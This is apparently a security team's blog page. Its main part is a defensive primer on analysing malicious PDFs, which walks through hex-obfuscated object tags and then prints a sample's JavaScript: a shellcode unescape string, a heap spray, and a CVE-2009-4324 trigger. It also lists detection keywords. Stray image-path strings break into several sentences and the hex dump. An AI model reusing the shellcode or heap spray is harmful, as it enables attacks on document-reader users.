Convinced that I was done, I added the rootdelay value to /boot/grub/grub.cfg, ran "update-grub" as root to make the changes permanent, and rebooted one last time, just to be sure. It's a good thing I did, too, because MY CHANGES WEREN'T SAVED, and I endedright back up at my Busybox shell. I had to go in through the rescue option on the installer CD, make my changes there, and update GRUB from my CD just to get the changes to stick.

With all of the effort the Ubuntu people put into making their installation simple, you'd think they could have gone to the trouble of setting the "rootdelay" variable to a higher value when they saw a SAS card that they probably know takes forever to initialize. Really, would that be so hard, guys?

Monday, April 5, 2010

Matt's Primer for PDF Analysis

For obvious reasons, the VRT has been spending a lot of time on the PDF format lately. While the attack researchers have been concentrating on fuzzing, reverse engineering and data flow analysis, the defense researchers have been automating the backend analysis of PDF submissions. As part of this effort, we've had to do a very deep dive on the PDF format. I thought it might be useful to share some of what we're seeing come in our data feeds, and what you should look for when reviewing PDF files.

So let's start with the first structure you have to understand, the obj structure. For the moment, most everything you really are going to worry about occurs in association with either the obj tags or Javascript. Here is the obj tag format:

[objnum] [genid] obj (value) endobj

Obj tags declare what sort of data is in this section of the file. They should be pretty straight forward:
4 0 obj.<< /Length 5 0 R /Filter /FlateDecode >> stream (Ton of data...) endstream endobj 5 0 obj 185 endobj

The first object above is object number 4 with a genid of 0. Note that the combination of the object number and gen id are a unique identifier within the PDF spec. While I haven't seen an example with multiple objnums and genids, Iwouldn't put it past someone to give it a shot. Inside the << >> is a definition of what it is that this object holds. The object in question is FlateDecoded stream. It also has a relative reference that you have to understand. The “/Length” field declares the length of the stream data. In this case, that value is contained in object number 5. We know this because of the “ R” structure immediately following the “/Length” tag.

This seems simple, but Adobe has to support extended characters for the various languages around theworld. To support this, they provided the option to ASCII hex encode fields within the PDF document. This is done by placing the ASCII hexadecimal value for the character you are representing immediately after a “#” character. So the letter “A” can be represented as #41.

So attackers use this feature to obscure the feature calls so you can’t look specifically object tags like JBIG2 or JavaScript tags. So the following object string:

/Type/Action/S/JavaScript/JS 6 0 R

Could be represented as:

/Typ#65/#41#63t#69#6fn/S/#4a#61#76a#53cript/J#53 6 0 R

You can use Didier Stevens’ script to deobfuscated object tags with ASCII hex encoding. So the file we’re looking at has the following deobfuscated lines:

(obj 1) /Type/Catalog/Outlines 2 0 R/Pages 3 0 R/OpenAction 5 0 R
(obj 2) /Type/Outlines/Count 0
(obj 3)/Type/Pages/Kids[4 0 R]/Count 1
(obj 4) /Type/Page/Parent 3 0 R/MediaBox[0 0 612 792]
(obj 5) /Type/Action/S/JavaScript/JS 6 0 R
(obj 6) /Length 2008/Filter[/FlateDecode/ASCIIHexDecode]

Besides the obfuscation, the OpenAction->Javascript->FlateDecode sequence should immediately concern you.  The OpenAction declaration in the object tag means that the associated data should immediately be executed.  In this case it is a relative reference to object 5.  Object 5 in turn declares the data as JavaScript and points to object 6.  Object 6 is a deflated stream of data, which gives us a new obstacle to deal with.

So object 6 looks like this:
00000190  3E 65 6E 64 6F 62 6A 0D 0A 36 20 30 20 6F 62 6A <endobj..6 0 obj000001A0  3C 3C 2F 4C 23 36 35 6E 23 36 37 23 37 34 68 20 <</L#65n#67#74h
000001B0  32 30 30 38 2F 23 34 36 69 6C 23 37 34 65 23 37 2008/#46il#74e#7
000001C0  32 5B 2F 23 34 36 6C 23 36 31 74 65 44 23 36 35 2[/#46l#61teD#65
000001D0  63 23 36 66 64 65 2F 23 34 31 53 23 34 33 23 34 c#6fde/#41S#43#4
000001E0  39 23 34 39 23 34 38 65 23 37 38 23 34 34 23 36 9#49#48e#78#44#6
000001F0  35 23 36 33 23 36 66 23 36 34 23 36 35 5D 3E 3E 5#63#6f#64#65]>>
00000200  0D 0A 73 74 72 65 61 6D 0D 0A 78 9C 7D 59 6D 92}Ym.
00000210  EB 36 0C BB 8A 8E 60 EB D3 FE D3 BB 64 B3 DB FB .6....`.....d...
00000220  1F A1 24 01 52 92 93 E9 4C 37 4D 64 89 22 41 10 ..$.R...L7Md."A.
00000230  94 F5 8E 57 1A 3D F5 33 8D 9C 52 CA 87 7C D4 7F ...W.=.3..R..|..00000240  E5 A3 BF E5 CB 4B BE B4 91 9A 3C EA FA 57 75 6E .....K....>..Wun
00000250  C2 47 6F FA 4D 3F 64 B1 4D 4B FD 4E AD CA B2 92 .Go.M?d.MK.N....
00000260  FA 0B 13 C6 0D 2B 3A 3C C4 76 BF 6C 48 0D A6 21 .....+:>.v.lH..!

Using Didier Stevens’ pdf-parser, we can get an inflated view of object 6 we can inflate object 6 by using thefollowing arguments:
[kpyke@segfault]$./ -o6 -f bad.pdf

Let’s take the output one block at a time.  Looking at this, your first thought is probably "What the hell is with that variable name?".  This is a common JavaScript obfuscation technique.  By randomizing the variable names, it is difficult for IDS/AV systems to target them with set signatures.  It is definitely a sign that this file is jacked.

The first variable puts the shellcode into memory:

var OlJWRbdvveuaWiTCjeyJTphyRwPgnwjlnPwhiTXRqYmV =unescape("%uc931%u89bf%ucf5a%ub1ac%udb48%ud9ca%u2474%u5af4%uea83%u31fc%u0d7a%u7a03%ue20d%ua67c%u2527%u577e%u56b8%ub2f7%u4489%ub663%u58b8%u9ae0%u1230%u0ea4%u56c2%u2060%udc63%u0f56%ud074%uc356%u72b6%u1e2a%u54eb%ud113%u95fe%u0c54%uc4f0%u5a0d%uf8a3%u1e3a%uf878%u14ec%u82c0%ueb89%u38b5%u3b90%u3665%ua3da%u100d%ud2fa%u42c2%u9dc6%ub06f%u1fbd%u88a6%u2e3e%u4786%u9e01%u990b%u1946%uecf4%u59bc%uf689%u2307%u7255%u8395%u241e%u357d%ub3f2%u39f6%ub0bf%u5e50%u143e%u5aeb%u9bcb%ueb3b%ubf8f%ub79f%ua154%u1d86%ude3a%ufad8%u7ae3%ue993%ufdf0%u67fe%u8f06%uc185%u8f08%u6185%ube61%uee0e%u3ff6%u4ac5%u0a08%ufa47%ud381%ube12%ue3cf%ufdc9%u67e9%u7dfb%u770e%u788e%u3f4a%uf163%uaac3%ua683%ufee4%u25e0%u2f7f%ucd83%u0f1a%u4d64%u21c5%ue51f%ucb25%u60ac%u1354%u0e3f%u32ec%ua0cc%uda60%u355b%u4959%uc1fe%ue2f8%u4670%u6d94%ub604%u2f45%uf2a0%u89b9%udb0e%ub0d7%u3b3a%u5444%u5aa1%ucdf8%uf257%u6275%u4db7%uef12%u23de%u9cb3%uce54%u1722%u5cfb%uf7d6%uc46e%u996c%u7603%u36e1%u028a%ue7d9%uaf0d%uf85d");

The second block of code sets up the heap spray and adjust the
<var WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT = unescape("%u41b1%u483f");
while(WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT.length >= 32768) WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT+=WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT;WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT=WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT.substring(0,32768 - OlJWRbdvveuaWiTCjeyJTphyRwPgnwjlnPwhiTXRqYmV.length);memory=new Array();

for(i=0;i<0x2000;i++) {
     memory[i]= WmBcOiflJCZIlBHlQMYvLqUsYVqUOiZajvemAdT + OlJWRbdvveuaWiTCjeyJTphyRwPgnwjlnPwhiTXRqYmV;

The final block is the vulnerability triggering condition.  In this case, it is an exploit of the media.newPlayer vulnerability in Adobe Reader (CVE-2009-4324):
util.printd("1.345678901.345678901.3456 : 1.31.34", new Date());util.printd("1.345678901.345678901.3456 : 1.31.34", new Date());
try {;} catch(e) {}
util.printd("1.345678901.345678901.3456 : 1.31.34", new Date());
So to recap, important things to know about PDFs, just to get started:
  1.  ASCII hex encoding, particularly alternating between non-encoded and encoded characters, should raise red flags.
  2.  The OpenAction tag should get your attention, but it does exist in valid documents.
  3.  You need to get out there and check out JavaScript obfuscation, although you should certainly be able to just point to the block and go "I don't know what the hell that is, but it ain't right".
  4.  In particular, look for the following JS obfuscation keywords:
    • unescape
    • syncAnnotScan
    • getAnnots
    • replace
  5. In particular, look for the following JS obfuscation techniques:
    • Renaming functions and then calling the new name
    • Providing blocks of ASCII hex encoded data separated by a single character and then replacing that char with a "%", then using that block as an unescape.
    • Randomized variable strings
  6.  4 & 5 aren't even close to an exhaustive list.
  7.  Track the work of Didier Stevens:
  8.  Most of the bad stuff you'll see will look wrong right out of the box. Trust your instincts.

Thursday, April 1, 2010

What in the name!...

If you are confused by the naming of ClamAV products, here's a quick breakdown:
  • ClamAV®: open source (GPL) anti-virus toolkit for UNIX, designed especially for e-mail scanning on mailgateways. Available here.
  • ClamAV® (Win32 binaries): Win32 port of ClamAV. Available here.
  • ClamAV® for Windows: Microsoft® Windows-specific Anti-Virus (AV) solution using an advanced Cloud-based protection mechanism. Developed in partnership with Immunet Corporation. Available here.
The products listed above are the only ones developed and maintained by Sourcefire® Inc.

New Mac OSX Module for Snort

Today, the VRT is excited to announce a revolutionary new module for the Snort Intrusion Detection System.  The extraordinary capability of Snort to be molded through rules, so_rules, preprocessors and the fact that the entire code base is open gives us unprecedented capability to bring to our customers what they truly need.  That is why the VRT has been working hard for the past two months to deliver this newfunctionality.  We hope you enjoy it as much as we will enjoy not working on it anymore.

So, what is this new module?  Well first, let me set the scene.  For those businesses that have OSX as their primary systems, they live in a security Nirvana.  Without exploits, viruses or rootkits to worry about, their security guys are much like the Maytag repairman.  Lots of time with their feet up, checking their brackets, developing the ultimate waste-paper basketball techniques and generally living life as only they can.  But we know and you know that they have to have systems going to make it look like they are working. So, in addition to the empty boxes that just have blinking LEDs on them, they also have firewalls, AV, IDS and other systems that they can look at intently when their bosses come over.

Now those of you with Windows systems are probably jealous that the Mac guys are getting yet another shiny toy.  But don't worry, since Snort is Open Source, you can always just stand up a box and call that network your "Mac" network.  You're golden.

Now, there are three variants of the new Mac OSX module.The first is the SnortSETI plugin.  This will allow you to take all of those CPU cycles that you're spending not detecting attacks on Mac OSX systems and put it to use finding aliens.  We can't be wasting cycles in this day and age.  Also that we don't let these CPUs contribute to global warming, not cool (get it?).  Finally, the faster we find these aliens, the sooner we'll have our Elvis back.

The second module is a Systems Simulation and Exploitation Center.  This module will allow any of the systems running Snort to act as one of several pre-configured operating systems and applications.  Then, using a special client, you can execute a variety of "attacks" on the system.  The intended use of this is not to attract a mate, although I think we can all agree that there is nothing sexier than popping a shell.  But instead is to be used on patch days.

Invariably the following conversation occurs:

"Hey, um, systems guy, there is a huge patch out.  We have to stay late tonight, incur some downtime and patch the servers."

